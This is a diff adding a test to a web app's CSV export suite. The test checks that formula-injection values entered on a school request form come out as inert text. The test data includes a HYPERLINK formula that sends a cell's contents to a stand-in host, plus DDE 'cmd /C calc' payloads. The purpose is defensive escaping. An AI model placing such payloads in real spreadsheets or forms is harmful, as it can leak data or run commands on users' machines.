@@ -82,6 +82,54 @@ describe("GET /api/exports/:kind.:format", () => {
     expect(res.rawPayload.subarray(0, 2).toString()).toBe("PK");
   });
 
+  it("a collège named like a formula on the public form comes out as text in college-sessions.csv", async () => {
+    const payload = '=HYPERLINK("http://x?"&A1,"clic")';
+    const inDays = (d: number) => new Date(Date.now() + d * 86_400_000).toISOString().slice(0, 10);
+    const submitted = await app.inject({
+      method: "POST",
+      url: "/api/trpc/college.submit",
+      headers: { "content-type": "application/json", origin: "http://localhost:3000" },
+      payload: JSON.stringify(
+        superjson.serialize({
+          uai: "0470040N",
+          establishmentName: payload,
+          address: "@SUM(1+1)*cmd|' /C calc'!A0",
+          communeInsee: "47001",
+          requesterName: "+cmd|' /C calc'!A0",
+          requesterRole: "cpe",
+          email: "cpe@college.fr",
+          classes: [{ level: "5e", pupils: 26 }],
+          topics: ["cyberbullying"],
+          periods: [{ from: inDays(20), to: inDays(40) }],
+          consent: true,
+        }),
+      ),
+    });
+    expect(submitted.statusCode, submitted.body).toBe(200);
+    const request = await db.prisma.collegeRequest.findFirstOrThrow({ where: { establishmentName: payload }, include: { classes: true } });
+    const counsellor = await db.prisma.counsellor.findFirstOrThrow();
+    const coord = await login("coord@medianum.test");
+    const scheduled = await app.inject({
+      method: "POST",
+      url: "/api/trpc/college.schedule",
+      headers: { "content-type": "application/json", origin: "http://localhost:3000", cookie: coord },
+      payload: JSON.stringify(
+        superjson.serialize({
+          requestId: request.id,
+          sessions: [{ classIds: [request.classes[0]!.id], day: inDays(30), time: "09:00", durationMinutes: 55, counsellorIds: [counsellor.id] }],
+          confirmConflicts: true,
+        }),
+      ),
+    });
+    expect(scheduled.statusCode, scheduled.body).toBe(200);
+
+    const res = await app.inject({ url: `/api/exports/college-sessions.csv?from=${inDays(0)}&to=${inDays(60)}`, headers: { cookie: coord } });
+    expect(res.statusCode).toBe(200);
+    // CSV quoting doubles the inner quotes; the cell itself starts with an apostrophe.
+    expect(res.body).toContain(`;"'=HYPERLINK(""http://x?""&A1,""clic"")";`);
+    expect(res.body).not.toMatch(/(^|;)"?=/m);
+  });
+
   it("refuses visitors, counsellors and bad filters, in French", async () => {
     const anonymous = await app.inject("/api/exports/activities.csv?from=2026-01-01&to=2026-12-31");
     expect(anonymous.statusCode).toBe(401);
